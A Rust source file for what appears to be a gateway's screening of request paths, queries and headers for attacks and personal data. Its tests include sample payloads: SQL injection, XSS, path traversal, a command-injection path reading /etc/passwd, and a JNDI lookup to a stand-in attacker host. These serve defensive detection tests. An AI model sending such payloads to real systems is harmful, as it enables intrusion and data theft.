//! Attacks in the path, the query and the header fields, and personal data in the latter two.

use percent_encoding::percent_decode_str;

use super::note;
use crate::access::{Header, Target};
use crate::problem::Refusal;
use crate::screening::{Kind, Notes, Screening};

/// Fields that are not free text: proxies and the policy read them by their grammars, and a program behind does so too. In a
/// credential anything may stand, and a match would be by chance.
const STRUCTURED: [&str; 24] = [
    "accept",
    "accept-encoding",
    "accept-language",
    "authorization",
    "content-digest",
    "content-length",
    "content-type",
    "date",
    "dpop",
    "forwarded",
    "host",
    "if-match",
    "if-none-match",
    "origin",
    "priority",
    "signature",
    "signature-input",
    "te",
    "traceparent",
    "tracestate",
    "via",
    "x-envoy-external-address",
    "x-forwarded-for",
    "x-request-id",
];

/// Fields that carry credentials, addresses of clients or names of programs, which look like them: there personal data and secrets
/// are where they belong, or are none.
const CREDENTIALS: [&str; 14] = [
    "api-key",
    "authentication",
    "cf-connecting-ip",
    "cookie",
    "fly-client-ip",
    "idempotency-key",
    "if-range",
    "proxy-authorization",
    "sec-ch-ua",
    "sec-ch-ua-full-version-list",
    "true-client-ip",
    "user-agent",
    "x-api-key",
    "x-real-ip",
];

/// The path, as it was normalised, and the query.
pub(super) fn target(
    screening: &Screening,
    target: &Target,
    notes: &mut Notes,
) -> Result<(), Refusal> {
    let path = percent_decode_str(&target.path).decode_utf8_lossy();
    let query = target.query.as_deref().unwrap_or_default();
    let parameters = form_urlencoded::parse(query.as_bytes());
    let parts = parameters.flat_map(|(name, value)| [name, value]);
    for part in [path].into_iter().chain(parts) {
        note(&screening.attacks(&part), || ":path".to_owned(), notes)?;
    }
    // With its name: `password=…` is a secret because it is called so.
    for (name, value) in form_urlencoded::parse(query.as_bytes()) {
        let found = screening.data_in_head(&format!("{name}={value}"));
        note(&found, || ":path".to_owned(), notes)?;
        note(&screening.data_in_head(&value), || ":path".to_owned(), notes)?;
    }
    Ok(())
}

pub(super) fn fields(
    screening: &Screening,
    headers: &[Header<'_>],
    notes: &mut Notes,
) -> Result<(), Refusal> {
    for (name, value) in headers {
        if name.starts_with(':') || STRUCTURED.contains(name) {
            continue;
        }
        // What is not UTF-8 is read as far as it is.
        let value = String::from_utf8_lossy(value);
        match *name {
            // The signs between cookies are those between commands.
            "cookie" => {
                value.split("; ").try_for_each(|cookie| field(screening, name, cookie, notes))?;
            }
            name => field(screening, name, &value, notes)?,
        }
        if !CREDENTIALS.contains(name) {
            note(&screening.data_in_head(&value), || (*name).to_owned(), notes)?;
        }
    }
    Ok(())
}

fn field(screening: &Screening, name: &str, value: &str, notes: &mut Notes) -> Result<(), Refusal> {
    let mut found = screening.attacks(value);
    // A referrer may well be on one's own machine, and a browser names what it likes in parentheses.
    found.retain(|found| !matches!(found.detection.kind, Kind::Ssrf | Kind::RemoteFileInclusion));
    note(&found, || name.to_owned(), notes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::{InputSection, Reaction, ScreeningSection};
    use crate::problem::Reason;
    use crate::screening::Action;

    fn screened(fields: &[(&str, &str)]) -> Result<Notes, Refusal> {
        let section = InputSection { screening: Some(Default::default()), ..Default::default() };
        let screening = Screening::compile(&section, None, "input").unwrap();
        let pseudo = [(":method", "GET"), (":authority", "api.example")];
        let headers: Vec<Header<'_>> =
            fields.iter().chain(&pseudo).map(|(name, value)| (*name, value.as_bytes())).collect();
        let mut notes = Notes::default();
        if fields[0].0 == ":path" {
            target(&screening, &Target::read(&headers)?, &mut notes)?;
        }
        super::fields(&screening, &headers, &mut notes)?;
        Ok(notes)
    }

    #[test]
    fn attacks_are_found_wherever_they_are() {
        for field in [
            (":path", "/search?q=1%27%20OR%20%271%27=%271"),
            (":path", "/search?%3Cscript%3Ealert(1)%3C/script%3E=1"),
            (":path", "/files?name=..%2f..%2f..%2fetc%2fpasswd"),
            (":path", "/a;cat%20/etc/passwd%7Csh"),
            (":path", "/search?q=%00%1b1%27%20OR%20%271%27=%271"),
            ("user-agent", "${jndi:ldap://evil.example/a}"),
            ("referer", "https://a.example/?q=<script>alert(1)</script>"),
            ("x-tenant-hint", "1' UNION SELECT password FROM users--"),
            ("cookie", "theme=dark; id=1' OR '1'='1"),
        ] {
            let refusal = screened(&[field]).expect_err(field.1);
            assert_eq!(refusal.reason, Reason::AttackSuspected, "{field:?}");
            assert_eq!(refusal.findings[0].at, field.0);
        }
    }

    fn with_data(reaction: Reaction, fields: &[(&str, &str)]) -> Result<Notes, Refusal> {
        let kinds = [Kind::EmailAddress, Kind::PaymentCard, Kind::Secret, Kind::IpAddress];
        let screening = ScreeningSection {
            attacks: Some(Reaction::Allow),
            personal_data: kinds.map(|kind| (kind, Action::Mask)).into(),
            personal_data_in_head: Some(reaction),
            ..Default::default()
        };
        let section = InputSection { screening: Some(screening), ..Default::default() };
        let screening = Screening::compile(&section, None, "input").unwrap();
        let pseudo = [(":method", "GET"), (":authority", "api.example")];
        let headers: Vec<Header<'_>> =
            fields.iter().chain(&pseudo).map(|(name, value)| (*name, value.as_bytes())).collect();
        let mut notes = Notes::default();
        assert_eq!(screening.looks_at_heads(), reaction != Reaction::Allow);
        if fields[0].0 == ":path" {
            target(&screening, &Target::read(&headers)?, &mut notes)?;
        }
        super::fields(&screening, &headers, &mut notes)?;
        Ok(notes)
    }

    #[test]
    fn personal_data_is_found_and_never_replaced() {
        for field in [
            (":path", "/search?q=write+to+alice%40example.com"),
            (":path", "/search?card=4111%201111%201111%201111"),
            (":path", "/login?password=Tr0ub4dor%263x"),
            (":path", "/search?alice%40example.com=1"),
            ("x-user", "alice@example.com"),
            ("referer", "https://a.example/?mail=alice@example.com"),
        ] {
            let refusal = with_data(Reaction::Refuse, &[field]).expect_err(field.1);
            assert_eq!(refusal.reason, Reason::PersonalDataRefused, "{field:?}");
            assert_eq!(refusal.findings[0].at, field.0);
            assert!(!with_data(Reaction::Flag, &[field]).unwrap().is_empty(), "{field:?}");
            assert!(with_data(Reaction::Allow, &[field]).unwrap().is_empty(), "{field:?}");
        }
        for field in [
            (":path", "/search?q=how+to+write+a+letter&page=2"),
            ("authorization", "Bearer ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
            ("cookie", "mail=alice@example.com"),
            ("user-agent", "Mozilla/5.0 Chrome/131.0.0.0 Safari/537.36"),
            ("x-forwarded-for", "203.0.113.7"),
        ] {
            let notes = with_data(Reaction::Refuse, &[field]).unwrap();
            assert!(notes.is_empty(), "{field:?}: {notes:?}");
        }
    }

    #[test]
    fn what_browsers_and_clients_send_is_let_through() {
        for field in [
            (
                ":path",
                "/v1/chat/completions?api-version=2025-01-01&stream=true&filter=name%20eq%20%27a%27",
            ),
            (":path", "/v1/search?q=how+do+I+select+rows+from+a+table&page=2&sort=-date"),
            (":path", "/x/..//v1/./predict?a=1"),
            (":path", "/v1/redirect?to=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De"),
            (
                "user-agent",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            ),
            (
                "user-agent",
                "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
            ),
            ("user-agent", "python-requests/2.32.3"),
            ("user-agent", "OpenAI/Python 1.54.0"),
            ("user-agent", "curl/8.5.0"),
            ("user-agent", "Go-http-client/2.0"),
            ("referer", "http://localhost:3000/chat?thread=abc#top"),
            ("sec-ch-ua", "\"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\""),
            ("sec-ch-ua-platform", "\"Windows\""),
            ("cache-control", "no-cache, max-age=0"),
            ("if-modified-since", "Wed, 21 Oct 2026 07:28:00 GMT"),
            ("x-stainless-os", "MacOS"),
            ("x-stainless-runtime-version", "CPython/3.12.4"),
            ("openai-organization", "org-abc123"),
            ("baggage", "userId=alice,serverNode=DF%2028,isProduction=false"),
            (
                "cookie",
                "session=eyJhbGciOiJIUzI1NiJ9.e30.abc-_; theme=dark; _ga=GA1.2.123456789.1700000000",
            ),
            ("x-api-key", "pk_a1b2c3.d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9"),
        ] {
            let notes =
                screened(&[field]).unwrap_or_else(|refusal| panic!("{field:?}: {refusal:?}"));
            assert!(notes.is_empty(), "{field:?}: {notes:?}");
        }
    }
}
